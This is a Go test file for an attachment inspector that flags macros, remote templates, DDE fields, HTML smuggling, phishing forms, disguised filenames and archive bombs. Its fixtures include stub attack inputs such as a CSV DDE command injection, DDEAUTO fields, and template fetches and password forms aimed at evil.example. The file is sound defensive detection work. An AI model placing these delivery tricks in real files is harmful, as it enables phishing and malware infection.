package carrier

import (
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"image/color"
	"slices"
	"strings"
	"testing"

	"picket/internal/compound/compoundtest"
	"picket/internal/message/outlook/outlooktest"
)

var black, white = color.Gray{0}, color.Gray{255}

func TestInspectFindings(t *testing.T) {
	tests := []struct {
		name  string
		body  []byte
		kind  Kind
		in    string // the member; "" the file itself
		quote string
	}{
		{"plan.docm", docx(t, map[string]string{"word/vbaProject.bin": string(compoundtest.Write(project(macro)))}), AutoMacro, "word/vbaProject.bin", "Module1: Sub AutoOpen()"},
		{"plan.docx", docx(t, map[string]string{"word/vbaProject.bin": string(compoundtest.Write(project(macro)))}), Disguised, "", "with macros"},
		{"plan.docx", docx(t, map[string]string{"word/_rels/settings.xml.rels": relation("attachedTemplate", "https://evil.example/t.dotm")}), Template, "", "https://evil.example/t.dotm"},
		{"plan.docx", docx(t, map[string]string{"word/_rels/document.xml.rels": relation("image", `\\192.0.2.7\s\a.png`)}), Template, "", `\\192.0.2.7\s`},
		{"plan.docx", docx(t, map[string]string{"word/embeddings/oleObject1.bin": string(compoundtest.Write(compoundtest.Storage{"\x01Ole10Native": ole10Native("a.js", "x()")}))}), Script, "word/embeddings/oleObject1.bin!a.js", "x()"},
		{"plan.docx", docx(t, map[string]string{"word/document.xml": `<w:p xmlns:w="w"><w:instrText>DDE</w:instrText><w:t/><w:instrText>AUTO c:\\x "y"</w:instrText></w:p>`}), Object, "", `DDEAUTO c:\\x`},
		{"plan.docx", docx(t, map[string]string{"word/document.xml": `<w:p xmlns:w="w"><w:altChunk r:id="x"/></w:p>`}), Object, "", "altChunk"},
		{"plan.xlsm", zipOf(t, map[string]string{"[Content_Types].xml": "<Types/>", "xl/workbook.xml": `<workbook><definedName name="_xlnm.Auto_Open" hidden="1">m!A1</definedName></workbook>`, "xl/macrosheets/sheet1.xml": "<a/>"}), AutoMacro, "", "Auto_Open"},
		{"plan.doc", compoundtest.Write(compoundtest.Storage{"WordDocument": []byte("text"), "Macros": project(macro)}), AutoMacro, "", "AutoOpen"},
		{"plan.xls", compoundtest.Write(compoundtest.Storage{"Workbook": []byte("\x85\x00\x0c\x00\x00\x00\x00\x00\x02\x01\x04\x00Mac1")}), Macro, "", "very hidden Excel 4 macro sheet: Mac1"},
		{"plan.xls", compoundtest.Write(compoundtest.Storage{"Workbook": []byte("\x2f\x00\x02\x00\x00\x00")}), Encrypted, "", "password"},
		{"plan.docx", compoundtest.Write(compoundtest.Storage{"EncryptedPackage": []byte("x")}), Encrypted, "", "password"},
		{"plan.doc", compoundtest.Write(compoundtest.Storage{"WordDocument": []byte("t"), "ObjectPool": compoundtest.Storage{"_1": compoundtest.Storage{"": []byte("\x02\xce\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46"), "a": []byte("b")}}}), Object, "", "Equation Editor"},
		{"plan.rtf", []byte(`{\rtf1{\object\objemb\objupdate{\*\objclass Package}{\*\objdata 01050000020000000800000050{\x }61636b6167650000000000` + "00000000" + hex.EncodeToString(ole10Native("b.exe", string(program()))) + `}}}`), Executable, "b.exe", "pe"},
		{"plan.rtf", []byte(`{\rtf1{\*\template http\'3a//evil.example/t}}`), Template, "", "http://evil.example/t"},
		{"plan.rtf", []byte(`{\rtf1{\field{\*\fldinst {\b DDE}AUTO c:\\x}}}`), Object, "", "DDEAUTO"},
		{"a.lnk", shortcutFile(`..\cmd.exe`, "/c echo nothing"), Shortcut, "", `..\cmd.exe /c echo nothing`},
		{"a.url", []byte("[InternetShortcut]\r\nURL=file://192.0.2.1/a\r\n"), Shortcut, "", "file://192.0.2.1/a"},
		{"a.library-ms", []byte("<libraryDescription><simpleLocation><url>\\\\192.0.2.1\\s</url></simpleLocation></libraryDescription>"), Shortcut, "", `\\192.0.2.1\s`},
		{"a.rdp", []byte("screen mode id:i:2\r\nfull address:s:rdp.example:3389\r\n"), Shortcut, "", "rdp.example:3389"},
		{"a.iso", diskImage(map[string]string{"Rechnung.lnk": string(shortcutFile(`x.exe`, "y"))}), Shortcut, "Rechnung.lnk", "x.exe y"},
		{"a.iso", diskImage(map[string]string{"a": "b"}), DiskImage, "", "iso"},
		{"a.pdf", diskImage(map[string]string{"a": "b"}), Disguised, "", "content is iso"},
		{"a.img", append(make([]byte, 512), "x"...), DiskImage, "", "by its name"},
		{"a.vhdx", []byte("vhdxfile"), DiskImage, "", "vhdx"},
		{"a.hta", []byte("<hta:application id=a>"), Script, "", "hta:application"},
		{"a.js", []byte("var a = 1"), Script, "", "var a"},
		{"a.vbe", []byte("#@~^AAAA=="), Script, "", "#@~^"},
		{"a.jar", zipOf(t, map[string]string{"META-INF/MANIFEST.MF": "x"}), Script, "", "jar"},
		{"a.scr", program(), Executable, "", "pe"},
		{"a.msi", compoundtest.Write(compoundtest.Storage{"": []byte("\x84\x10\x0c\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46"), "a": []byte("b")}), Executable, "", "msi"},
		{"a.chm", []byte("ITSF\x03"), Executable, "", "chm"},
		{"a.xll", []byte("\x00\x01\x02"), Executable, "", "by its name"},
		{"photo.png", program(), Disguised, "", "content is pe"},
		{"photo\u202egnp.exe", program(), Disguised, "", "<U+202E>"},
		{"photo.pdf.exe", program(), Disguised, "", "two endings"},
		{"photo.pdf" + strings.Repeat(" ", 60) + ".exe", program(), Disguised, "", "spaces"},
		{"invoice.pdf.html", []byte("<html>"), Disguised, "", "two endings"},
		{"n.one", []byte("\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3" + embeddedFile + "\x0f\x00\x00\x00\x00\x00\x00\x00............@echo off\r\nrem"), Notebook, "", "script, 15 bytes"},
		{"n.one", []byte("\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3" + embeddedFile + "\x0f\x00\x00\x00\x00\x00\x00\x00............@echo off\r\nrem"), Script, "file 1", "@echo off"},
		{"a.pdf", []byte("%PDF-1.7\n1 0 obj <</OpenAction 2 0 R>> endobj 2 0 obj <</S/J#61vaScript/JS (a\\(1\\))>> endobj"), PDFAction, "", "/JS a(1)"},
		{"a.pdf", []byte("%PDF-1.7\n1 0 obj <</OpenAction 2 0 R>> endobj 2 0 obj <</S/J#61vaScript/JS (a\\(1\\))>> endobj"), PDFAction, "", "/OpenAction"},
		{"a.pdf", []byte("%PDF-1.7\n2 0 obj <</S /Launch /F (cmd)>> endobj"), PDFAction, "", "/Launch"},
		{"a.pdf", []byte("%PDF-1.7\n2 0 obj <</Type /EmbeddedFile /Length 15>>\nstream\n@echo off\r\nrem endstream"), Script, "file 1", "@echo off"},
		{"a.pdf", []byte("%PDF-1.7\ntrailer <</Encrypt 3 0 R>>"), Encrypted, "", "PDF"},
		{"a.html", []byte("<script>var b=new Blob([atob('" + strings.Repeat("QUJD", 80) + "')]);a.href=URL.createObjectURL(b)</script>"), Smuggling, "", "createobjecturl of"},
		{"a.html", []byte("<script>document.write(unescape('" + strings.Repeat("%3C%61%3E", 40) + "'))</script>"), Smuggling, "", "document.write of"},
		{"a.html", []byte("<a download=x.zip href='data:application/zip;base64,UEsDBA=='>x</a>"), Smuggling, "", "data:application/zip"},
		{"a.html", []byte("<script>document.write(unescape('" + strings.Repeat("%20", 60) + "%3Cform%3E%3Cinput type=password name=x%3E'))</script>"), PageForm, "decoded 1", "password"},
		{"a.html", []byte("<script>eval(String.fromCharCode(" + strings.Repeat("32,", 100) + "60,102,111,114,109,62,60,105,110,112,117,116,32,116,121,112,101,61,112,97,115,115,119,111,114,100,62))</script>"), PageForm, "decoded 1", "password"},
		{"a.svg", []byte("<svg xmlns='http://www.w3.org/2000/svg'><script>location.href='https://evil.example/x'</script></svg>"), Script, "", "script in a picture"},
		{"a.htm", []byte("<form action='https://evil.example/p'><input type=PASSWORD name=p></form>"), PageForm, "", "PASSWORD"},
		{"a.rar", rar4("b.exe", false), Executable, "b.exe", "by its name"},
		{"a.rar", rar4("b.exe", true), Encrypted, "b.exe", "b.exe"},
		{"a.rar", rar5("b.js", false), Script, "b.js", "by its name"},
		{"a.rar", rar5("b.js", true), Encrypted, "b.js", "b.js"},
		{"a.rar", rar5("b.js", true), Unread, "", "not read"},
		{"a.csv", []byte("name,x\n=cmd|' /C x'!A0,1\n"), Object, "", "DDE"},
		{"a.eml", []byte("Message-ID: <1@a.example>\r\nContent-Type: application/octet-stream; name=b.scr\r\nContent-Disposition: attachment; filename=b.scr\r\n\r\n" + string(program())), Executable, "b.scr", "pe"},
		{"a.msg", (&outlooktest.Message{Attachments: []outlooktest.Properties{{0x3707: "b.scr", 0x3701: program()}}}).Write(), Executable, "b.scr", "pe"},
		{"winmail.dat", (&outlooktest.Message{Attachments: []outlooktest.Properties{{0x3707: "b.scr", 0x3701: program()}}}).TNEF(), Executable, "b.scr", "pe"},
		{"a.slk", []byte("ID;PWXL\nO;E\nNN;NAuto_open"), Macro, "", "SYLK"},
	}
	for _, test := range tests {
		t.Run(test.name+" "+string(test.kind), func(t *testing.T) {
			name := test.name
			if test.in != "" {
				name += "!" + test.in
			}
			if r := Inspect(test.name, "", test.body); !has(r, test.kind, name, test.quote) {
				t.Errorf("no %q of %q with %q in %+v", test.kind, name, test.quote, r)
			}
		})
	}
}

// What is harmless has no findings.
func TestInspectHarmless(t *testing.T) {
	tests := map[string][]byte{
		"letter.docx":      docx(t, map[string]string{"word/_rels/document.xml.rels": relation("hyperlink", "https://www.example/")}),
		"photo.png":        qrPicture(t, black, white, "hello"),
		"notes.txt":        []byte("You may have a look at https://www.example/."),
		"v1.2 report.pdf":  []byte("%PDF-1.4\n1 0 obj <</OpenAction [3 0 R /XYZ]>> endobj"),
		"archive.tar.gz":   gzipOf([]byte("plain text")),
		"page.html":        []byte("<!doctype html><p>Hello <a href='https://www.example/'>x</a><script>console.log('a')</script>"),
		"meeting.ics":      []byte("BEGIN:VCALENDAR\r\nURL:https://meet.exam\r\n ple/a\r\n"),
		"letter.rtf":       []byte(`{\rtf1{\field{\*\fldinst HYPERLINK "https://www.example/"}}}`),
		"old.doc":          compoundtest.Write(compoundtest.Storage{"WordDocument": []byte("text"), "1Table": []byte("t")}),
		"photos.zip":       zipOf(t, map[string]string{"a/photo.jpg": "\xff\xd8\xffx", "b/c.txt": "text"}),
		"Mr. Smith Jr.pdf": []byte("%PDF-1.4\n"),
	}
	for name, body := range tests {
		for _, f := range Inspect(name, "", body).Findings {
			if f.Kind != Unread { // half a JPEG
				t.Errorf("%s: %+v", name, f)
			}
		}
	}
}

func TestInspectLinks(t *testing.T) {
	var objects bytes.Buffer
	z := zlib.NewWriter(&objects)
	_, _ = z.Write([]byte("5 0 <</S /URI /URI (https://evil.example/stream)>>"))
	_ = z.Close()
	tests := []struct {
		name, from string
		body       []byte
		want       string
	}{
		{"a.docx", "ooxml", docx(t, map[string]string{"word/_rels/document.xml.rels": relation("hyperlink", "https://evil.example/d")}), "https://evil.example/d"},
		{"a.pdf", "pdf", []byte("%PDF-1.7\r1 0 obj <</URI (https://evil.example/\\(p\\)\\057)>>"), "https://evil.example/(p)/"},
		{"a.pdf", "pdf", []byte("%PDF-1.7\r1 0 obj <</URI <68747470733a2f2f612e6578616d706c652f>>>"), "https://a.example/"},
		{"a.pdf", "pdf", []byte(fmt.Sprintf("%%PDF-1.7\n1 0 obj <</Type /ObjStm /Filter /FlateDecode /Length %d>>\nstream\n%s\nendstream", objects.Len(), objects.String())), "https://evil.example/stream"},
		{"a.url", "shortcut", []byte("[InternetShortcut]\nURL=https://evil.example/u\n"), "https://evil.example/u"},
		{"a.png", "qr code", qrPicture(t, black, white, "https://evil.example/q"), "https://evil.example/q"},
		{"a.html", "html", []byte("<meta http-equiv=refresh content='0; URL=https://evil.example/Meta'>"), "https://evil.example/Meta"},
		{"a.html", "html", []byte("<script>window.location = 'https://evil.example/loc'</script>"), "https://evil.example/loc"},
		{"a.ics", "calendar", []byte("BEGIN:VCALENDAR\r\nDESCRIPTION:see\\nhttps://evil.exam\r\n ple/cal\\n\r\n"), "https://evil.example/cal"},
		{"a.rtf", "rtf", []byte(`{\rtf1{\field{\*\fldinst HYPERLINK "https://evil.example/rtf"}}}`), "https://evil.example/rtf"},
		{"a.doc", "ole", compoundtest.Write(compoundtest.Storage{"WordDocument": []byte("x\x13 HYPERLINK \"https://evil.example/doc\" \x14y\x15")}), "https://evil.example/doc"},
	}
	for _, test := range tests {
		if r := Inspect(test.name, "", test.body); !slices.Contains(links(r, test.from), test.want) {
			t.Errorf("%s: %q is not among the links of %+v", test.name, test.want, r)
		}
	}
}

// A file within an archive in a page is told with its hashes, however it was wrapped.
func TestInspectFilesAtDepth(t *testing.T) {
	inner := zipOf(t, map[string]string{"doc/a.txt": "hello"})
	smuggled := "<script>saveAs(new Blob([atob('" + base64.StdEncoding.EncodeToString(gzipOf(inner)) + "')]))</script>"
	r := Inspect("x.html", "text/html", []byte(smuggled))
	var names []string
	for _, f := range r.Files {
		names = append(names, f.Name+" "+f.Type)
	}
	want := []string{"x.html html", "x.html!decoded 1 gzip", "x.html!decoded 1!content zip", "x.html!decoded 1!content!doc/a.txt text"}
	if !slices.Equal(names, want) {
		t.Fatalf("%q, want %q", names, want)
	}
	last := r.Files[len(r.Files)-1]
	if last.MD5 != "5d41402abc4b2a76b9719d911017c592" || last.SHA1 != "aaf4c61ddcc5e8a2dabede0f3b482cd9aea9434d" || last.Size != 5 ||
		last.SHA256 != "2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824" {
		t.Errorf("%+v", last)
	}
}

func TestInspectBombs(t *testing.T) {
	zeros := gzipOf(make([]byte, 80<<20))
	nested := []byte("x")
	for range 30 {
		nested = gzipOf(nested)
	}
	many := make(map[string]string)
	for n := range 2500 {
		many[fmt.Sprint(n)] = "x"
	}
	for name, body := range map[string][]byte{"zeros.gz": zeros, "nested.gz": nested, "many.zip": zipOf(t, many)} {
		r := Inspect(name, "", body)
		if len(r.Files) > mostFiles || !slices.ContainsFunc(r.Findings, func(f Finding) bool { return f.Kind == Unread }) {
			t.Errorf("%s: %d files, findings %+v", name, len(r.Files), r.Findings)
		}
	}
}

func gzipOf(b []byte) []byte {
	var out bytes.Buffer
	z := gzip.NewWriter(&out)
	_, _ = z.Write(b)
	_ = z.Close()
	return out.Bytes()
}

func TestDecompressVBA(t *testing.T) {
	// The example of MS-OVBA, 3.2.3: maximum compression.
	got := decompress([]byte{1, 3, 0xb0, 2, 0x61, 0x45, 0})
	if want := strings.Repeat("a", 73); string(got) != want {
		t.Errorf("%q", got)
	}
	// And of 3.2.2: normal compression.
	packed, _ := hex.DecodeString("012fb000236161616263646582660070616768696a013808616b6c00306d6e6f700671027004107273747576107778797a003c")
	if got := string(decompress(packed)); got != "#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa" {
		t.Errorf("%q", got)
	}
	if code := decompress(packCode(macro)); string(code) != macro {
		t.Errorf("%q", code)
	}
}

func TestQRCodes(t *testing.T) {
	tests := []struct {
		name    string
		picture []byte
		want    []string
	}{
		{"one", qrPicture(t, black, white, "https://a.example/1"), []string{"https://a.example/1"}},
		{"two", qrPicture(t, black, white, "https://a.example/1", "https://b.example/2"), []string{"https://a.example/1", "https://b.example/2"}},
		{"inverted", qrPicture(t, white, black, "https://a.example/1"), []string{"https://a.example/1"}},
		{"faint", qrPicture(t, color.Gray{90}, color.Gray{200}, "https://a.example/1"), []string{"https://a.example/1"}},
		{"empty", qrPicture(t, white, white, "https://a.example/1"), nil},
		{"no picture", []byte("GIF89a"), nil},
	}
	for _, test := range tests {
		if got := QRCodes(test.picture); !slices.Equal(got, test.want) {
			t.Errorf("%s: %q, want %q", test.name, got, test.want)
		}
	}
}

// The head of a PNG of 30,000 by 30,000 pixels is refused before it is decoded.
func TestQRCodesRefusesGiants(t *testing.T) {
	giant := qrPicture(t, black, white, "x")
	copy(giant[16:], "\x00\x00\x75\x30\x00\x00\x75\x30")
	if _, ok := readCodes(giant); ok {
		t.Error("it was read")
	}
}
